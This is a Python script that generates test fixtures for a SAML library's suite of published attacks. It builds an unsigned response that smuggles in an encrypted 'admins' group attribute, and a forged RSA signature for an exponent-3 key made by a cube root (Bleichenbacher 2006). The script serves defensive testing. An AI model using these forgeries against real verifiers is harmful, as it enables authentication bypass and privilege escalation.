#!/usr/bin/env python3
"""Makes the two messages of `tests/published_attacks.rs` that need a computation which samlkit does not have:

- `rebound-prefix.xml`: a response without a signature, for the test to sign, with an attribute that is
  encrypted for the key rsa-2048. The plaintext has a prefix that only the Response declares, outside the
  assertion.
- `cube-root.xml`: an element "signed" by the key of the certificate rsa-exponent-3 without its private
  half (Bleichenbacher 2006, CVE-2006-4339). The value is a cube root: its cube begins with a padding that
  is too short, the hash, and then anything.

Run once; what it made is committed. Needs python3 with the package cryptography.
"""
import base64
import hashlib

from cryptography import x509
from cryptography.hazmat.primitives import serialization

from encrypted import DATA, DS, part

TARGET = DATA / "published-attacks"
SHA256 = bytes.fromhex("3031300d060960864801650304020105000420")


def rebound_prefix():
    pem = (DATA / "keys/rsa-2048.test-only.pem").read_bytes()
    public = serialization.load_pem_private_key(pem, None).public_key()
    response = (DATA / "vectors/responses/good-assertion-signed.xml").read_text()
    start = response.index("<Signature ")
    end = response.index("</Signature>") + len("</Signature>")
    response = response[:start] + response[end:]
    plain = '<x:Attribute Name="groups"><x:AttributeValue>admins</x:AttributeValue></x:Attribute>'
    encrypted = part("EncryptedAttribute", plain, public)
    response = response.replace("</AttributeStatement>", encrypted + "</AttributeStatement>")
    return response.replace(" ID=\"_r1\"", " xmlns:x=\"urn:x\" ID=\"_r1\"")


def cube_root():
    der = base64.b64decode((DATA / "certificates/rsa-exponent-3.b64").read_text())
    key = x509.load_der_x509_certificate(der).public_key().public_numbers()
    size = (key.n.bit_length() + 7) // 8
    encode = lambda octets: base64.b64encode(octets).decode()
    element = lambda name, uri: f'<{name} Algorithm="{uri}"></{name}>'
    c14n = "http://www.w3.org/2001/10/xml-exc-c14n#"
    digest = encode(hashlib.sha256(b'<a ID="_1"></a>').digest())
    inside = (element("CanonicalizationMethod", c14n)
              + element("SignatureMethod", "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256")
              + '<Reference URI="#_1"><Transforms>' + element("Transform", DS + "enveloped-signature")
              + element("Transform", c14n) + "</Transforms>"
              + element("DigestMethod", "http://www.w3.org/2001/04/xmlenc#sha256")
              + f"<DigestValue>{digest}</DigestValue></Reference></SignedInfo>")
    signed = hashlib.sha256(f'<SignedInfo xmlns="{DS}">{inside}'.encode()).digest()
    begin = b"\0\1" + 8 * b"\xff" + b"\0" + SHA256 + signed
    least = int.from_bytes(begin + (size - len(begin)) * b"\0", "big")
    low, high = 0, 1 << (8 * size // 3 + 1)
    while low < high:
        middle = (low + high) // 2
        low, high = (low, middle) if middle**3 >= least else (middle + 1, high)
    assert low**3 < key.n and (low**3).to_bytes(size, "big").startswith(begin)
    value = encode(low.to_bytes(size, "big"))
    return (f'<a ID="_1"><Signature xmlns="{DS}"><SignedInfo>{inside}'
            f"<SignatureValue>{value}</SignatureValue></Signature></a>")


TARGET.mkdir(exist_ok=True)
(TARGET / "rebound-prefix.xml").write_text(rebound_prefix())
(TARGET / "cube-root.xml").write_text(cube_root())
